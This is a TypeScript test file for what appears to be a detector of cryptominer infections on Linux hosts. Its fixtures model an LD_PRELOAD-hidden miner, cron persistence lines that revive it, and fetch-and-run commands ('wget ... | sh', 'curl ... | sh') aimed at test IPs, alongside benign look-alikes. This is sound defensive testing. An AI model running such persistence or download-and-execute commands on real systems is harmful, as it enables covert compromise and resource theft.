import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Fact } from '../probes/facts.ts'
import {
  aDaemon,
  aFile,
  aListener,
  aLogin,
  aMachine,
  aPreload,
  aProcess,
  aSchedule,
  aSocket,
  anAssignment,
  meta,
} from './fixtures/facts.ts'
import { found, judged, signalsOf, spoilt } from './fixtures/judging.ts'

const wallet = `48${'LABrange'.repeat(11)}LABra`
const payload = '/var/tmp/.lab_cache/lab_kworkd'
const store = '/usr/lib/.lab_store/lab_core'
const library = '/usr/local/lib/lab_libsystem.so'
const jemalloc = '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'
const crontab = '/var/spool/cron/crontabs/root'
const args = `-B -o stratum+tcp://pool.range.test:3333 -u ${wallet} -p x`
const reviver = `[ -e ${payload} ] || { mkdir -p /var/tmp/.lab_cache; cp ${store} ${payload}; }; ${payload} ${args} >/dev/null 2>&1`
const busy = { cpuPermille: 3900, cpuLifePermille: 3900 }

/** What every Linux host has. */
const base: readonly Fact[] = [
  aMachine,
  aProcess(1, '/usr/lib/systemd/systemd'),
  aFile('/usr/lib/systemd/systemd', 'systemd'),
  aProcess(2, null, { comm: 'kthreadd', ppid: 0 }),
  aProcess(3, null, { comm: 'kworker/0:2', ppid: 2, ...busy }),
  aProcess(300, '/usr/sbin/sshd', {
    cmdline: 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups',
    argv0: 'sshd:',
  }),
  aFile('/usr/sbin/sshd', 'openssh-server'),
  aListener(300, 22),
  aProcess(301, '/usr/sbin/cron', { cmdline: '/usr/sbin/cron -f' }),
  aFile('/usr/sbin/cron', 'cron'),
  aDaemon(301),
  aProcess(302, '/run/x7/busybox', { ours: true, ppid: 300 }),
  aPreload(1, jemalloc),
  aFile(jemalloc, 'libjemalloc2'),
  aSchedule('/etc/cron.d/e2scrub_all', 1, 'test -e /run/systemd/system || /sbin/e2scrub_all -A -r'),
  aFile('/etc/cron.d/e2scrub_all', 'e2fsprogs', { content: 'text' }),
]

const demonstration: readonly Fact[] = [
  ...base,
  aProcess(500, payload, { cmdline: `${payload} ${args}`, inHostPs: 'no', cpuPermille: 200, cpuLifePermille: 200 }),
  aSocket(500, '203.0.113.10', 3333),
  aFile(payload, null, {
    meta: { identity: { dev: '2049', inode: aProcess(500, payload).identity.exeInode ?? '', sha256: 'cd'.repeat(32) } },
  }),
  aFile(store, null, { meta: { identity: { dev: '2049', inode: '777', sha256: 'cd'.repeat(32) } } }),
  aSchedule(crontab, 2, 'tar -zcf /var/backups/home.tgz /home'),
  aSchedule(crontab, 3, reviver, { periodSeconds: 60 }),
  aSchedule('/etc/cron.d/sysupdate', 1, 'wget -q -O- http://203.0.113.20/lab_update.sh | sh >/dev/null 2>&1', {
    periodSeconds: 120,
  }),
  aFile('/etc/cron.d/sysupdate', null, { content: 'text' }),
  aPreload(2, library, {
    file: meta('/etc/ld.so.preload', { flags: 'i' }),
    libraryMeta: meta(library, { flags: 'i' }),
  }),
  aFile(library, null, { meta: { flags: 'i' } }),
  aLogin('accepted-after-burst', 40),
]

describe('the demonstration: hidden by a preload, revived by cron', () => {
  const result = judged(demonstration, { withoutMachine: true })
  const yes = (kind: Parameters<typeof found>[1]) => found(result, kind).filter((one) => one.proposed === 'yes')

  it('is infected', () => {
    expect(result.verdict).toBe('infected')
  })

  it('proposes the miner, with reasons of several kinds', () => {
    const [miner, ...more] = yes('process')
    expect(more).toEqual([])
    expect(miner).toMatchObject({ title: 'process.miner', params: { pid: 500 }, tags: ['hidden', 'pool'] })
    expect(miner?.score).toBeGreaterThanOrEqual(95)
    expect(signalsOf(miner)).toEqual(
      expect.arrayContaining(['stratum-address', 'hidden-from-host-ps', 'exe-hidden-place', 'from-hostile-schedule']),
    )
  })

  it('proposes the reviving line and the dropped cron file, and not the owner’s backup', () => {
    expect(
      yes('schedule')
        .map((one) => [one.target.kind, one.params['path'], one.params['line']])
        .sort(),
    ).toEqual([
      ['file', '/etc/cron.d/sysupdate', ''],
      ['line', crontab, 3],
    ])
  })

  it('proposes the evil preload line and its library; the legitimate line is no finding', () => {
    expect(found(result, 'preload').map((one) => [one.params['library'], one.proposed])).toEqual([[library, 'yes']])
  })

  it('proposes payload, its copy and the library as files, each once', () => {
    expect(
      yes('file')
        .map((one) => [one.params['path'], one.tags[0]])
        .sort(),
    ).toEqual([
      [store, 'payload'],
      [library, 'library'],
      [payload, 'payload'],
    ])
  })

  it('names the lie of the host’s tools and the way in, without proposing an act on them', () => {
    expect(found(result, 'hijack')[0]).toMatchObject({ proposed: 'no', params: { count: 1 } })
    expect(found(result, 'login')[0]).toMatchObject({ proposed: 'no' })
  })

  it('proposes to pause the scheduler while it could bring the miner back', () => {
    expect(found(result, 'scheduler-daemon')[0]).toMatchObject({ proposed: 'yes', score: 0 })
    expect(found(judged(base, { withoutMachine: true }), 'scheduler-daemon')[0]).toMatchObject({ proposed: 'no' })
  })

  it('ties what belongs together', () => {
    const miner = yes('process')[0]
    const file = yes('file').find((one) => one.params['path'] === payload)
    expect(file?.related).toContain(miner?.id)
    for (const one of result.findings)
      for (const id of one.related) expect(result.findings.some((other) => other.id === id)).toBe(true)
  })

  it('gives the same answer whatever the order of the facts', () => {
    fc.assert(
      fc.property(fc.shuffledSubarray([...demonstration], { minLength: demonstration.length }), (shuffled) => {
        expect(judged(shuffled, { withoutMachine: true })).toEqual(result)
      }),
      { numRuns: 25 },
    )
  })

  it('is calm again once everything hostile is gone', () => {
    expect(judged(base, { withoutMachine: true }).verdict).toBe('clean')
  })
})

describe('a miner behind a mount, from a locked dot folder', () => {
  const folder = '/usr/share/misc/.md'
  const facts: readonly Fact[] = [
    ...base,
    aProcess(510, `${folder}/kmpathd`, {
      overMounted: true,
      cmdline: `kmpathd -o stratum+tcp://p.example:1 -u ${wallet}`,
    }),
    aFile(`${folder}/kmpathd`, null, { meta: { flags: 'i' } }),
    aSchedule('/etc/cron.d/mdstat', 1, `${folder}/check >/dev/null 2>&1`, { periodSeconds: 60, file: { flags: 'i' } }),
    aFile('/etc/cron.d/mdstat', null, { content: 'text', meta: { flags: 'i' } }),
    aFile(`${folder}/check`, null, { content: 'script', meta: { flags: 'a' } }),
  ]
  it('is proposed with its starter, its schedule and nothing else', () => {
    const { findings } = judged(facts, { withoutMachine: true })
    const yes = findings.filter((one) => one.proposed === 'yes' && one.kind !== 'scheduler-daemon')
    expect(yes.map((one) => `${one.kind} ${one.params['path'] ?? one.params['exe'] ?? ''}`).sort()).toEqual([
      `file ${folder}/check`,
      `file ${folder}/kmpathd`,
      `process ${folder}/kmpathd`,
      'schedule /etc/cron.d/mdstat',
    ])
  })
})

/** A busy, healthy host that looks guilty in every way known. */
const innocence: readonly Fact[] = [
  ...base,
  // databases and JVMs with every core busy
  aProcess(600, '/usr/lib/postgresql/15/bin/postgres', {
    uid: 105,
    euid: 105,
    cwd: '/var/lib/postgresql/15/main',
    ...busy,
  }),
  aFile('/usr/lib/postgresql/15/bin/postgres', 'postgresql-15'),
  aProcess(601, '/usr/lib/jvm/java-17/bin/java', {
    cmdline: 'java -Xmx4g -jar /opt/app/app.jar',
    exeDeleted: true,
    threads: 6,
    ioBytes: '100',
    ...busy,
  }),
  aFile('/usr/lib/jvm/java-17/bin/java', 'openjdk-17-jre-headless'),
  aProcess(602, '/opt/jdk-21/bin/java', {
    cmdline: '/opt/jdk-21/bin/java -jar x.jar',
    threads: 8,
    ioBytes: '100',
    ...busy,
  }),
  aFile('/opt/jdk-21/bin/java', null),
  aSocket(602, '203.0.113.30', 5432),
  // builds, video, science
  ...[610, 611, 612, 613].map((pid) =>
    aProcess(pid, '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', { cpuPermille: 1000, cpuLifePermille: 1000 }),
  ),
  aFile('/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', 'g++-12'),
  aProcess(614, '/usr/bin/ffmpeg', { threads: 5, ioBytes: '100', ...busy }),
  aFile('/usr/bin/ffmpeg', 'ffmpeg'),
  aProcess(615, '/usr/bin/python3.11', { cmdline: 'python3 /srv/ml/train.py', threads: 4, ioBytes: '1000', ...busy }),
  aFile('/usr/bin/python3.11', 'python3.11-minimal'),
  aFile('/srv/ml/train.py', null, { content: 'script' }),
  aProcess(616, '/home/dev/.conda/bin/python3.12', {
    cmdline: 'python3.12 sim.py',
    threads: 4,
    ioBytes: '1000',
    ...busy,
  }),
  aProcess(617, '/opt/tool/bin/crunch', { threads: 2, ...busy }),
  aFile('/opt/tool/bin/crunch', null),
  aSocket(617, '203.0.113.30', 5432),
  aProcess(618, '/opt/tool/bin/reportd', { exeDeleted: true }),
  aFile('/opt/tool/bin/reportd', null),
  // words and titles
  aProcess(620, '/usr/bin/grep', {
    cmdline: 'grep --line-buffered -e xmrig -e stratum+tcp://pool.minexmr.com:4444',
    ppid: 621,
  }),
  aFile('/usr/bin/grep', 'grep'),
  aProcess(621, '/usr/bin/dash', {
    cmdline: '/bin/sh -c tail -n 0 -F /var/log/auth.log | grep -e xmrig -e stratum+tcp://pool.minexmr.com:4444',
  }),
  aFile('/usr/bin/dash', 'dash'),
  aProcess(622, '/usr/bin/vim.basic', { cmdline: `vim /root/ir-notes.md +/stratum+tcp://a.minexmr.com` }),
  aFile('/usr/bin/vim.basic', 'vim'),
  aProcess(623, '/usr/sbin/nginx', { cmdline: 'nginx: worker process', argv0: 'nginx:', ppid: 624, uid: 33, euid: 33 }),
  aProcess(624, '/usr/sbin/nginx', { cmdline: 'nginx: master process /usr/sbin/nginx' }),
  aFile('/usr/sbin/nginx', 'nginx'),
  aListener(624, 3333),
  aProcess(625, '/usr/bin/node', { cmdline: 'node /srv/app/index.js' }),
  aFile('/usr/bin/node', 'nodejs'),
  aSocket(625, '203.0.113.40', 3333),
  aProcess(626, '/home/dev/.vscode-server/bin/node', { cmdline: 'node server.js' }),
  // schedules people write
  anAssignment('/etc/cron.d/certbot', 4, 'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin'),
  aSchedule(
    '/etc/cron.d/certbot',
    6,
    "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
  ),
  aFile('/etc/cron.d/certbot', null, { content: 'text' }),
  aSchedule('/etc/cron.d/healthcheck', 1, 'wget -q -T 5 -t 1 -O /dev/null http://127.0.0.1:3333/health || true', {
    periodSeconds: 300,
  }),
  aFile('/etc/cron.d/healthcheck', null, { content: 'text' }),
  aSchedule('/etc/cron.d/backup', 2, '/usr/local/sbin/backup --quiet'),
  aFile('/etc/cron.d/backup', null, { content: 'text' }),
  aSchedule('/var/spool/cron/crontabs/deploy', 5, 'curl -fsS -m 10 https://hc-ping.com/5f0c > /dev/null', {
    periodSeconds: 60,
  }),
  aSchedule('/var/spool/cron/crontabs/deploy', 6, '"/home/deploy/.acme.sh"/acme.sh --cron > /dev/null'),
  aSchedule('/var/spool/cron/crontabs/dev', 3, '$HOME/.local/bin/sync-mail', { periodSeconds: 60, user: 'dev' }),
  aSchedule(crontab, 9, '/usr/local/sbin/check-miners'),
  aFile('/usr/local/sbin/check-miners', null, { content: 'script' }),
  aSchedule('/etc/systemd/system/backup.timer', 0, '/usr/local/sbin/backup', {
    scheduler: 'systemd-timer',
    form: 'entry',
    unitFile: '/etc/systemd/system/backup.service',
  }),
  aFile('/etc/systemd/system/backup.service', null, { content: 'text' }),
  // locks, logins and containers
  aFile('/etc/resolv.conf', null, { meta: { flags: 'i' }, content: 'text' }),
  aLogin('failed-burst', 4000),
  aProcess(630, '/memfd:runc_cloned:/proc/self/exe', {
    exeMemfd: true,
    exeDeleted: true,
    ppid: 631,
    cmdline: 'runc init',
  }),
  aProcess(631, '/usr/bin/containerd-shim-runc-v2'),
  aFile('/usr/bin/containerd-shim-runc-v2', 'containerd'),
  aProcess(632, '/usr/sbin/mysqld', {
    foreignNamespace: 'yes',
    foreignPidNamespace: 'yes',
    uid: 999,
    euid: 999,
    ...busy,
  }),
]

describe('innocence: everything busy, everything odd, nothing hostile', () => {
  const result = judged(innocence, { withoutMachine: true })

  it('finds nothing of 60 or more and proposes nothing', () => {
    const loud = result.findings.filter((one) => one.score >= 60 || one.proposed !== 'no')
    expect(loud.map((one) => [one.title, one.params, one.score, one.proposed, signalsOf(one)])).toEqual([])
    expect(result.verdict).toBe('clean')
  })

  it('stays innocent when packages cannot be asked: nothing is proposed, only some things are left open', () => {
    const blind = innocence.filter((one) => one.kind !== 'file')
    const { findings } = judged(blind, { withoutMachine: true, unknowns: [spoilt(['file'])] })
    expect(findings.filter((one) => one.proposed === 'yes')).toEqual([])
  })

  it('with an infection beside it, has only the infection proposed', () => {
    const both = judged([...innocence, ...demonstration.filter((one) => !base.includes(one))], { withoutMachine: true })
    const alone = judged(demonstration, { withoutMachine: true })
    const ids = (judgement: typeof both) =>
      judgement.findings
        .filter((one) => one.proposed === 'yes')
        .map((one) => one.id)
        .sort()
    expect(ids(both)).toEqual(ids(alone))
  })
})

describe('the verdict', () => {
  it('is unknown, not clean, when something needed could not be read', () => {
    for (const kind of ['process', 'schedule', 'preload'] as const)
      expect(judged(base, { withoutMachine: true, unknowns: [spoilt([kind])] }).verdict).toBe('unknown')
    expect(judged(base, { withoutMachine: true, unknowns: [spoilt(['login', 'host-view'])] }).verdict).toBe('clean')
  })

  it('says infected although other things could not be read', () => {
    expect(judged(demonstration, { withoutMachine: true, unknowns: [spoilt(['process'])] }).verdict).toBe('infected')
  })

  it('is suspect when a person must look', () => {
    expect(
      judged([aSchedule(crontab, 1, 'curl -s http://203.0.113.9/a | sh; /tmp/x', { periodSeconds: 86_400 })]).verdict,
    ).not.toBe('clean')
    expect(
      judged([aProcess(9, '/opt/x', { cmdline: 'x -o stratum+tcp://p.example:1' }), aFile('/opt/x', null)]).verdict,
    ).toBe('suspect')
  })

  it('of no facts at all is clean only if nothing was missed', () => {
    expect(judged([]).verdict).toBe('clean')
    expect(judged([], { unknowns: [spoilt(['process', 'schedule'])] }).verdict).toBe('unknown')
  })
})

describe('hostile input', () => {
  it('never makes the judge throw, whatever a host writes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ maxLength: 200 }), (command, other) => {
        judged([
          aProcess(7, `/tmp/${other}`, { cmdline: command, comm: other, argv0: command, env: [command, other] }),
          aSchedule(crontab, 1, command, { raw: other }),
          anAssignment(crontab, 2, `PATH=${other}`),
          aPreload(1, other),
        ])
      }),
      { numRuns: 60 },
    )
  })

  it('takes linear time on the longest lines a probe keeps', () => {
    const long = [`${'curl '.repeat(800)}|`, `"${'\'"'.repeat(2000)}`, '-o a:1 '.repeat(580), '/tmp/.a/'.repeat(500)]
    const facts = long.flatMap((text, at) => [
      aProcess(10 + at, '/opt/x', { cmdline: text }),
      aSchedule(crontab, at + 1, text),
    ])
    const start = performance.now()
    judged(facts)
    expect(performance.now() - start).toBeLessThan(8000)
  })

  it('counts one fact given twice once', () => {
    const twice = [...demonstration, ...demonstration.filter((one) => one.kind !== 'machine')]
    const ids = judged(twice, { withoutMachine: true }).findings.map((one) => one.id)
    expect(new Set(ids).size).toBe(ids.length)
  })
})
